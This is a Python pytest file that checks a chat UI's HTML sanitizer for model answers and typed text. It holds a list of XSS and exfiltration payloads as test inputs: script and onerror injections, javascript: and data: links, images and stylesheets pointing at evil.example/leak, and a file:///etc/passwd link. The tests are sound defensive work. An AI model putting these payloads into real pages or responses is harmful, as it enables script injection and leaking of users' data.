"""Texts as HTML: nothing typed is lost, and nothing runs or asks another host."""

import html
from html.parser import HTMLParser

import pytest

from rlhf.serving.ui.markup import answer_html, is_web_link, typed_html

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=http://evil.example/a onerror=alert(1)>",
    "![a](http://evil.example/leak?q=secret)",
    "![a][b]\n\n[b]: http://evil.example/leak",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example) [d](/logout)",
    "<javascript:alert(1)>",
    '<a href=http://x style="position:fixed;top:0;left:0;width:100vw">x</a>',
    "<svg onload=alert(1)><style>*{background:url(http://evil.example)}</style></svg>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<iframe src=http://evil.example></iframe><base href=http://evil.example>",
    '<link rel=stylesheet href="http://evil.example/x.css"><meta http-equiv=refresh content=0>',
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '[a](http://ok.example "x\\" onmouseover=alert(1)")',
    '[a](http://ok.example/"onmouseover="alert(1))',
    "`<img src=x>` **<img src=x>** | a |\n|---|\n| <img src=x> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "${alert(1)} {{constructor}} `${alert(1)}`",
)
TAGS = set(
    "p br strong em s code pre a ul ol li blockquote table thead tbody tr th td hr h4 h5 h6".split()
)
ATTRIBUTES = {"a": {"href", "target", "rel"}, "ol": {"start"}, "pre": {"class", "tabindex"}}
# of a table's alignment
ATTRIBUTES |= {"th": {"style"}, "td": {"style"}}


class Reader(HTMLParser):
    """Collects tags, attributes and text."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_of_a_model_has_only_harmless_tags(text):
    for tag, attributes in Reader(answer_html(text)).tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        if tag == "a":
            assert attributes["href"].startswith(("http://", "https://"))
            assert attributes["target"] == "_blank" and "noopener" in attributes["rel"]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_was_typed_is_text_and_nothing_else(text):
    reader = Reader(typed_html(text))
    assert not reader.tags and reader.text == text


@pytest.mark.parametrize(
    "text",
    [
        "2*3*4 = 24",
        "std::vector<int> v; <foo>secret</foo> end",
        "<thinking>hm</thinking>",
        "a**b**c",
    ],
)
def test_an_answer_loses_no_character(text):
    assert Reader(answer_html(text)).text.strip() == text


def test_emphasis_lists_and_code_are_drawn():
    tags = [tag for tag, _ in Reader(answer_html("**a** *b* ~~c~~\n\n- d\n\n```\n<e>\n```\n")).tags]
    assert {"strong", "em", "s", "ul", "li", "pre"} <= set(tags)
    assert "<strong>강조</strong>는" in answer_html("**강조**는")
    assert "&lt;e&gt;" in answer_html("```\n<e>\n```")


def test_a_line_break_stays_and_headings_are_below_those_of_the_page():
    assert "<br" in answer_html("one\ntwo")
    assert answer_html("# Title\n").strip() == "<h4>Title</h4>"


@pytest.mark.parametrize("address", ["http://a.example", "HTTPS://a.example/?q=1"])
def test_links_to_the_web_are_followed(address):
    assert is_web_link(address)
    assert html.escape(address.split("?")[0]) in answer_html(f"[x]({address})")
